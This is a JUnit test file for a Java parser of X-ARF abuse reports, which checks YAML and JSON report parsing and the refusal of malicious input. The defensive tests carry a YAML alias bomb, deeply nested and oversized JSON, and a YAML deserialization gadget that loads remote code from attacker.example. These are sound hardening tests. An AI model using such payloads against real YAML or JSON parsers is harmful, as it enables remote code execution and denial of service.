package org.trapline.reports.xarf;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.time.OffsetDateTime;

import org.junit.jupiter.api.Test;
import org.trapline.reports.Report;
import org.trapline.reports.ReportKind;
import org.trapline.reports.Samples;
import org.trapline.reports.intake.ReportClassifier;

class XarfReaderTest {
    final ReportClassifier classifier = new ReportClassifier();

    @Test
    void xarf02YamlReportWithEvidence() {
        Report r = classifier.read(Samples.bytes("xarf-0.2.eml"));
        assertThat(r.kind()).isEqualTo(ReportKind.XARF);
        assertThat(r.feedbackType()).isEqualTo("mail");
        assertThat(r.stated().ip()).isEqualTo("100.64.1.23");
        assertThat(r.stated().port()).isEqualTo(25);
        assertThat(r.stated().time()).isEqualTo(OffsetDateTime.parse("2025-11-23T12:22:00Z"));
        assertThat(new String(r.reported().bytes(), StandardCharsets.US_ASCII)).startsWith("Received: from desktop-7 ([100.64.1.23])");
    }

    @Test
    void xarfV4JsonWithBase64Evidence() {
        Report r = classifier.read(Samples.bytes("xarf-v4-messaging-spam.json"));
        assertThat(r.kind()).isEqualTo(ReportKind.XARF);
        assertThat(r.feedbackType()).isEqualTo("spam");
        assertThat(r.stated().ip()).isEqualTo("100.64.9.9");
        assertThat(r.stated().port()).isEqualTo(49152);
        assertThat(r.stated().time()).isEqualTo(OffsetDateTime.parse("2025-11-23T12:23:00Z"));
        assertThat(r.originalMailFrom()).isEqualTo("sales@watches.example");
        assertThat(new String(r.reported().bytes(), StandardCharsets.US_ASCII)).startsWith("Received: from bobs-pc ([100.64.9.9])");
    }

    @Test
    void xarfV4AsAJsonPartOfAMail() {
        String json = new String(Samples.bytes("xarf-v4-messaging-spam.json"), StandardCharsets.UTF_8);
        String mail = "Content-Type: multipart/mixed; boundary=\"j\"\n\n--j\nContent-Type: text/plain\n\nsee the report\n"
                + "--j\nContent-Type: application/json\n\n" + json + "\n--j--\n";
        Report r = classifier.read(mail.getBytes(StandardCharsets.UTF_8));
        assertThat(r.kind()).isEqualTo(ReportKind.XARF);
        assertThat(r.stated().ip()).isEqualTo("100.64.9.9");
    }

    @Test
    void yamlAliasBombIsRefusedWithAReason() {
        StringBuilder y = new StringBuilder("Reported-From: x@example.com\nReport-Type: mail\na: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        for (char c = 'b'; c <= 'i'; c++) {
            char p = (char) (c - 1);
            y.append(c).append(": &").append(c).append(" [*").append(p);
            for (int i = 0; i < 8; i++) {
                y.append(",*").append(p);
            }
            y.append("]\n");
        }
        String mail = "X-ARF: YES\nContent-Type: multipart/mixed; boundary=\"y\"\n\n--y\nContent-Type: text/plain; name=\"report.txt\"\n\n"
                + y + "\n--y--\n";
        Report r = classifier.read(mail.getBytes(StandardCharsets.UTF_8));
        assertThat(r.kind()).isEqualTo(ReportKind.UNKNOWN);
        assertThat(r.reason()).startsWith("X-ARF report part is not YAML we read: ").contains("aliases");
    }

    @Test
    void yamlNamingAJavaTypeIsRefused() {
        String mail = "X-ARF: YES\nContent-Type: multipart/mixed; boundary=\"y\"\n\n--y\nContent-Type: text/plain; name=\"report.txt\"\n\n"
                + "Reported-From: x@example.com\nSource: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/\"]]]]\n\n--y--\n";
        Report r = classifier.read(mail.getBytes(StandardCharsets.UTF_8));
        assertThat(r.kind()).isEqualTo(ReportKind.UNKNOWN);
        assertThat(r.reason()).startsWith("X-ARF report part is not YAML we read");
    }

    @Test
    void deeplyNestedJsonIsRefusedBeforeATreeIsBuilt() {
        String json = "{\"xarf_version\":\"4.0.0\",\"x\":" + "[".repeat(200_000) + "]".repeat(200_000) + "}";
        Report r = classifier.read(json.getBytes(StandardCharsets.US_ASCII));
        assertThat(r.kind()).isEqualTo(ReportKind.UNKNOWN);
        assertThat(r.reason()).isEqualTo("XARF JSON nested deeper than 32");
    }

    @Test
    void hugeJsonIsReadOrRefusedWithoutCrashing() {
        StringBuilder b = new StringBuilder("{\"xarf_version\":\"4.0.0\",\"source_identifier\":\"100.64.9.9\",\"timestamp\":\"2025-11-23T12:23:00Z\",\"tags\":[");
        for (int i = 0; i < 1_000_000; i++) {
            b.append(i == 0 ? "" : ",").append("\"tag-").append(i).append('"');
        }
        b.append("]}");
        Report r = classifier.read(b.toString().getBytes(StandardCharsets.US_ASCII));
        assertThat(r.kind()).isEqualTo(ReportKind.XARF);
        assertThat(r.stated().ip()).isEqualTo("100.64.9.9");

        Report broken = classifier.read(b.substring(0, b.length() / 2).getBytes(StandardCharsets.US_ASCII));
        assertThat(broken.kind()).isEqualTo(ReportKind.UNKNOWN);
        assertThat(broken.reason()).startsWith("XARF JSON unreadable: ");
    }
}
